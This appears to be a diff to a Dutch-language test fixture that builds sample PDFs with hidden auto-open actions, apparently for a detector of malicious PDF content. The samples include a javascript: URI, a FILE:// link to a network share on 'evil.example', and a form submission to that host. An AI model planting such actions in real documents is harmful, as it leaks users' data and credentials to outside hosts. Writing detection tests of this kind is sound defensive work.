@@ -65,6 +65,12 @@ VERBORGEN = {
         },
         in_stroom={3, 4},
     ),
+    "link met javascript:": pdfs.met_catalogus(
+        b"/OpenAction << /S /URI /URI (javascript:alert(1)) >>"
+    ),
+    "link naar een bestand op een netwerkschijf": pdfs.met_catalogus(
+        b"/OpenAction 4 0 R", {4: b"<< /S /URI /URI (FILE://evil.example/share/a) >>"}, {4}
+    ),
     "formulier dat gegevens verstuurt": pdfs.met_catalogus(
         b"/OpenAction 4 0 R", {4: b"<< /S /SubmitForm /F (https://evil.example/) >>"}, {4}
     ),
